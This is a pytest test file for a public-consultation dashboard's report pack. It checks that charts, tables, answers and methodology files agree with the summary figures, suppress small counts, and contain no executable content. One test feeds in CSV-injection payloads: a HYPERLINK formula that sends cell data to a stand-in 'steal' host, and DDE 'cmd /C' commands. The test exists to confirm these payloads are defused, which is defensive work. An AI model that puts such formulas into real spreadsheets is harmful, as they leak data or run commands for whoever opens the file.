"""Downloads and the report pack: every file opens, carries its caption, and its numbers are the
numbers of `summary --json` for the same filters; nothing in a spreadsheet can run."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import pandas as pd
import pypdf
import pytest
from PIL import Image

from dashboard import cli
from dashboard.protection.redact import redact
from dashboard.publish import render
from dashboard.publish.exports import FORMULA_STARTS, csv_bytes, defuse, xlsx_bytes
from tests.conftest import copy_of
from tests.test_consultation import EXAMPLE

CONSULTATION = "civic-space-2020"
FILTERS = ["--region", "Africa", "--language", "fr", "--language", "en"]


def run(*argv: str) -> str:
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        assert cli.main(list(argv)) == 0
    return out.getvalue()


@pytest.fixture(scope="module")
def pack(sample_db: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("pack")
    # Exact figures, so that every number can be checked against the summary; the suppressed
    # pack (the default) has tests of its own below. A copy: the export is audited in it.
    store = copy_of(sample_db, tmp_path_factory.mktemp("pack-store"))
    run(
        "export", "--consultation", CONSULTATION, "--db", str(store), "--out", str(folder),
        "--exact", *FILTERS,
    )  # fmt: skip
    return folder


@pytest.fixture(scope="module")
def expected(sample_db: Path) -> dict:
    return json.loads(
        run("summary", "--consultation", CONSULTATION, "--db", str(sample_db), *FILTERS)
    )


def read_csv(path: Path) -> tuple[pd.DataFrame, list[str]]:
    """The table above the blank row, and the footer lines under it."""
    text = path.read_bytes()
    assert text.startswith(b"\xef\xbb\xbf"), "CSV must start with a UTF-8 BOM for Excel"
    rows = list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))
    blank = rows.index([])
    table = pd.DataFrame(rows[1:blank], columns=rows[0])
    return table, [r[0] for r in rows[blank + 1 :]]


def read_xlsx(path: Path) -> tuple[pd.DataFrame, list[str]]:
    sheet = openpyxl.load_workbook(path).active
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    blank = next(i for i, r in enumerate(rows) if all(v is None for v in r))
    return pd.DataFrame(rows[1:blank], columns=rows[0]), [r[0] for r in rows[blank + 1 :]]


def test_the_pack_has_every_kind_of_file(pack: Path) -> None:
    names = {p.relative_to(pack).as_posix() for p in pack.rglob("*") if p.is_file()}
    assert {"methodology.md", "answers.csv", "answers.xlsx"} <= names
    charts = {n for n in names if n.startswith("charts/")}
    tables = {n for n in names if n.startswith("tables/")}
    assert len(charts) >= 20 and len(tables) >= 24
    for chart in charts:
        stem = chart.rsplit(".", 1)[0].replace("charts/", "tables/")
        assert f"{stem}.csv" in tables and f"{stem}.xlsx" in tables


def test_every_png_decodes_at_print_size(pack: Path) -> None:
    """16 cm at 300 dpi is 1,890 pixels wide."""
    for path in (pack / "charts").glob("*.png"):
        with Image.open(path) as image:
            image.load()
            assert abs(image.width - 16 / 2.54 * 300) <= 1, path.name
            assert image.height >= 2 * 300


def test_every_svg_parses_and_carries_its_caption(pack: Path) -> None:
    for path in (pack / "charts").glob("*.svg"):
        root = ET.fromstring(path.read_bytes())
        assert root.tag.endswith("svg")
        text = " ".join(t for t in root.itertext())
        assert "Online consultation on civil society space" in text, path.name
        assert "Filters: region: Africa; language: French, English" in text, path.name
        assert "Source: Online consultation on civil society space" in text, path.name
        assert "civic-space-2020" not in text, "the caption names the title, never the id"


def test_region_table_agrees_with_the_summary(pack: Path, expected: dict) -> None:
    for reader, suffix in ((read_csv, "csv"), (read_xlsx, "xlsx")):
        table, footer = reader(pack / "tables" / f"respondents-by-region.{suffix}")
        by_region = {
            r["Region (M49)"]: (int(r["Respondents"]), int(r["Responses"]))
            for _, r in table.iterrows()
        }
        assert by_region == {
            k: (v["respondents"], v["responses"]) for k, v in expected["by_region"].items()
        }
        assert any("Filters: region: Africa" in line for line in footer)
        assert any(line.startswith("Made ") for line in footer)


@pytest.mark.parametrize(
    ("slug", "key", "label", "breakdown"),
    [
        ("respondents-and-responses-by-theme", "Theme", None, "by_theme"),
        ("responses-per-day", "Day (UTC)", None, "by_day"),
        ("against-the-window", "Against the window", None, "window"),
    ],
)
def test_tables_agree_with_the_summary(pack, expected, slug, key, label, breakdown) -> None:
    table, _ = read_csv(pack / "tables" / f"{slug}.csv")
    assert table["Respondents"].astype(int).sum() == (
        expected["respondents"]
        if breakdown != "by_theme"
        else sum(v["respondents"] for v in expected["by_theme"].values())
    )
    assert table["Responses"].astype(int).sum() == expected["responses"]
    if breakdown == "by_day":
        got = dict(zip(table[key], table["Responses"].astype(int), strict=True))
        assert got == {k: v["responses"] for k, v in expected["by_day"].items() if v["responses"]}


def test_answers_match_the_filters(pack: Path, expected: dict) -> None:
    table, footer = read_csv(pack / "answers.csv")
    assert len(table) == expected["responses"]
    assert footer[0].startswith("Answers matching the filters.")
    assert set(table["Region (M49)"]) == {"Africa"}
    assert set(table["Language"]) == {"French (fr)", "English (en)"}
    assert "Respondent ID" not in table.columns and "respondent_id" not in table.columns
    # Days, with their zone named (the pack's filters keep the consultation's UTC).
    days = pd.to_datetime(table["Day submitted (UTC)"], format="%Y-%m-%d")
    assert days.notna().all()
    workbook, _ = read_xlsx(pack / "answers.xlsx")
    assert len(workbook) == len(table)


def test_methodology_note(pack: Path, expected: dict) -> None:
    note = (pack / "methodology.md").read_text(encoding="utf-8")
    assert f"Respondents: {expected['respondents']:,}" in note
    assert "region: Africa; language: French, English" in note
    assert "responses_en.csv" in note and "reponses_fr.csv" in note
    assert "k = 5" in note


@pytest.mark.parametrize("text", ["=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx", '=HYPERLINK("x")'])
def test_defuse_makes_formula_starts_text(text: str) -> None:
    assert defuse(text) == "'" + text
    assert defuse("plain") == "plain" and defuse(-2) == -2


def test_no_exported_cell_is_a_formula(tmp_path: Path) -> None:
    db = tmp_path / "store.duckdb"
    definition = tmp_path / "c.toml"
    definition.write_text(EXAMPLE, encoding="utf-8")
    run("consultation", "add", str(definition), "--db", str(db))
    hostile = [
        '=HYPERLINK("http://example.invalid/steal?d="&A1,"Click")',
        "+1",
        "-2",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=cmd|' /C notepad'!'A1'",
    ]
    export = tmp_path / "hostile.csv"
    with export.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Respondent ID", "Submitted at", "Country", "Q1"])
        for number, answer in enumerate(hostile):
            writer.writerow(
                [f"H{number}", "2020-01-14T10:00:00Z", "=1+2" if number == 0 else "FR", answer]
            )
    run("import", "--consultation", CONSULTATION, "--db", str(db), str(export))
    out = tmp_path / "out"
    run("export", "--consultation", CONSULTATION, "--db", str(db), "--out", str(out))
    answers, _ = read_csv(out / "answers.csv")
    # Exports carry the redacted text ("@SUM" reads as a handle), made inert where needed.
    assert sorted(a.lstrip("'") for a in answers["Answer"]) == sorted(map(redact, hostile))
    for path in out.rglob("*.csv"):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))):
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS), (path.name, cell)
    for path in out.rglob("*.xlsx"):
        for row in openpyxl.load_workbook(path).active.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
    # In the workbook the answers keep their exact text (shown as text, not run).
    workbook, _ = read_xlsx(out / "answers.xlsx")
    assert sorted(workbook["Answer"]) == sorted(map(redact, hostile))


def test_csv_and_xlsx_round_trip_every_script() -> None:
    frame = pd.DataFrame(
        {"Pays": ["Côte d’Ivoire", "مصر", "中国", "Россия"], "Respondents": [1, 2, 3, 4]}
    )
    table, footer = read_csv_bytes(csv_bytes(frame, ["note: ok"]))
    assert table["Pays"].tolist() == frame["Pays"].tolist()
    assert footer == ["note: ok"]
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(frame, ["note: ok"])))
    values = [row for row in book.active.iter_rows(values_only=True)]
    assert values[1] == ("Côte d’Ivoire", 1) and values[-1][0] == "note: ok"


def read_csv_bytes(content: bytes) -> tuple[pd.DataFrame, list[str]]:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    blank = rows.index([])
    return pd.DataFrame(rows[1:blank], columns=rows[0]), [r[0] for r in rows[blank + 1 :]]


class _Scripts(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.sources: list[str] = []
        self.inline = 0

    def handle_starttag(self, tag, attrs) -> None:
        if tag == "script":
            source = dict(attrs).get("src")
            if source:
                self.sources.append(source)
            else:
                self.inline += 1


def test_interactive_html_is_self_contained(pack: Path) -> None:
    from dashboard.publish import charts

    frame = pd.DataFrame(
        {"iso3": ["SEN", "FRA"], "country": ["Senegal", "France"], "respondents": [5, 7]}
    )
    page = render.html(charts.world_map(frame, title="Respondents by country"), "Map").decode()
    parser = _Scripts()
    parser.feed(page)
    assert parser.sources == []  # no script loaded from anywhere
    assert parser.inline >= 2 and "PlotlyGeoAssets" in page and '"world_110m"' in page


# suppressed_pack: the default pack, shared with test_word_report (conftest).


def test_the_default_pack_releases_no_count_below_k(suppressed_pack: Path) -> None:
    hidden_seen = 0
    for path in (suppressed_pack / "tables").glob("*.csv"):
        table, _ = read_csv(path)
        for column in ("Respondents", "Responses"):
            if column not in table:
                continue
            for value in table[column]:
                if value == "< 5":
                    hidden_seen += 1
                elif column == "Respondents":
                    assert not 0 < int(value) < 5, (path.name, value)
    assert hidden_seen > 0
    note = (suppressed_pack / "methodology.md").read_text(encoding="utf-8")
    assert "fewer than k = 5 respondents" in note and "Respondents by country:" in note
    answers, _ = read_csv(suppressed_pack / "answers.csv")
    assert (answers["Country"] == "(not shown: fewer than 5 respondents)").any()


def test_the_map_image_sends_no_hidden_number(suppressed_pack: Path) -> None:
    svg = (suppressed_pack / "charts" / "respondents-by-country.svg").read_text(encoding="utf-8")
    assert "fewer than 5" in svg


def _clear_band(path: Path) -> dict[str, int]:
    """The width in pixels of the white band on each edge of an image."""
    with Image.open(path) as image:
        pixels = image.convert("L")
    ink = pixels.point(lambda value: 255 if value < 250 else 0)
    left, top, right, bottom = ink.getbbox()
    return {
        "left": left,
        "top": top,
        "right": pixels.width - right,
        "bottom": pixels.height - bottom,
    }


def test_every_png_of_the_pack_has_a_clear_band_on_all_four_edges(suppressed_pack: Path) -> None:
    """Nothing is cut or touches an edge: at least 2 mm (24 px at 300 dpi) of white all round."""
    pngs = sorted((suppressed_pack / "charts").glob("*.png"))
    assert len(pngs) >= 10
    for path in pngs:
        band = _clear_band(path)
        assert min(band.values()) >= 24, (path.name, band)


def _font_sizes(svg: bytes) -> list[float]:
    """Every font size used by text in an SVG (Plotly writes them as inline styles)."""
    sizes = re.findall(rb"font-size:\s*([0-9.]+)px", svg)
    return [float(size) for size in sizes]


def test_every_svg_of_the_pack_is_at_least_7_pt_at_16_cm_and_has_a_source_line(
    suppressed_pack: Path,
) -> None:
    svgs = sorted((suppressed_pack / "charts").glob("*.svg"))
    assert len(svgs) >= 10
    for path in svgs:
        content = path.read_bytes()
        root = ET.fromstring(content)
        # The file is 16 cm wide (605 CSS pixels) and lays its text out in its viewBox.
        assert abs(float(root.attrib["width"]) - 16 / 2.54 * 96) < 1, path.name
        layout_width = float(root.attrib["viewBox"].split()[2])
        points_per_px = 16 / 2.54 * 72 / layout_width
        sizes = _font_sizes(content)
        assert sizes, path.name
        assert min(sizes) * points_per_px >= 7, (path.name, min(sizes) * points_per_px)
        text = " ".join(root.itertext())
        assert "Source: Online consultation on civil society space" in text, path.name
        assert "3,000 respondents; counts below 5 not shown" in text, path.name


def test_every_chart_of_the_pack_has_a_pdf(suppressed_pack: Path) -> None:
    pngs = {p.stem for p in (suppressed_pack / "charts").glob("*.png")}
    pdfs = {p.stem for p in (suppressed_pack / "charts").glob("*.pdf")}
    assert pngs and pdfs == pngs
    for stem in pdfs:
        content = (suppressed_pack / "charts" / f"{stem}.pdf").read_bytes()
        assert content.startswith(b"%PDF-"), stem
        reader = pypdf.PdfReader(io.BytesIO(content))
        assert len(reader.pages) == 1, stem
        # The page is the chart at 16 cm wide (in points: 16 / 2.54 * 72).
        assert abs(float(reader.pages[0].mediabox.width) - 16 / 2.54 * 72) < 30, stem
        assert "Source:" in reader.pages[0].extract_text(), stem


def test_the_cumulative_table_never_counts_a_hidden_day_as_zero(suppressed_pack: Path) -> None:
    table, _ = read_csv(suppressed_pack / "tables" / "cumulative-participation.csv")
    hidden_days = table["Respondents"] == "< 5"
    assert hidden_days.any(), "the sample has hidden days before and after the window"
    so_far = table["Respondents so far"]
    first_hidden = hidden_days.idxmax()
    # From the first hidden day on, the running total is a range ("< 5", "up to 433",
    # "2,991 to 2,997"), never a single number.
    assert not any(value.replace(",", "").isdigit() for value in so_far[first_hidden:])
    assert so_far[first_hidden] == "< 5", so_far.tolist()
    low, high = (int(x.replace(",", "")) for x in so_far.iloc[-1].split(" to "))
    assert low <= 3000 <= high
    places = set(table["Against the window"])
    assert places == {"Before the window", "In the window", "After the window"}
